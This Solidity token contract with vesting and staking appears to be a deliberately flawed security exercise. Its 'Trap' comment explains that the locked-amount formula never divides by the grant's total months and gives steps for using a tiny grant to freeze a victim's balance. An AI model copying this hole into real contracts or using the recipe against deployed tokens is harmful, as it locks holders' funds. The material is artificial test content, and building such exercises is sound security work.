// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

// Trap: a token with built-in vesting of grants; what is still locked is the grant times the months left, and was never divided by all its months. A grant of one token over 10^9 months locks whatever its receiver has. Sprung by: admin.grantRole(VESTING_ADMIN, self), grantVesting(victim, 1 token, 1e9).
contract EVesting is ERC20, AccessControl {
    bytes32 public constant VESTING_ADMIN = keccak256("VESTING_ADMIN");
    uint256 private constant MONTH = 30 days;

    struct Grant {
        uint128 total;
        uint64 start;
        uint64 months;
    }

    mapping(address => Grant) public grants;
    mapping(address => uint256) public staked;
    mapping(address => uint256) public stakedAt;
    uint256 public totalStaked;

    event Granted(address indexed to, uint256 amount, uint256 months);

    error StillVesting(uint256 locked);

    constructor() ERC20("Cohort Network", "COHO") {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function grantVesting(address to, uint128 amount, uint64 months) external onlyRole(VESTING_ADMIN) {
        require(months > 0 && amount > 0, "empty grant");
        Grant storage grant = grants[to];
        require(lockedOf(to) == 0, "one grant at a time");
        _transfer(msg.sender, to, amount);
        (grant.total, grant.start, grant.months) = (amount, uint64(block.timestamp), months);
        emit Granted(to, amount, months);
    }

    function lockedOf(address who) public view returns (uint256) {
        Grant memory grant = grants[who];
        if (grant.total == 0) return 0;
        uint256 passed = (block.timestamp - grant.start) / MONTH;
        return passed >= grant.months ? 0 : uint256(grant.total) * (grant.months - passed);
    }

    function stake(uint256 amount) external {
        _transfer(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
        stakedAt[msg.sender] = block.timestamp;
        totalStaked += amount;
    }

    function unstake(uint256 amount) external {
        require(block.timestamp >= stakedAt[msg.sender] + 7 days, "cooldown");
        staked[msg.sender] -= amount;
        totalStaked -= amount;
        _transfer(address(this), msg.sender, amount);
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (from != address(0) && from != address(this)) {
            uint256 locked = lockedOf(from);
            if (locked > 0 && balanceOf(from) < locked) revert StillVesting(locked);
        }
    }
}
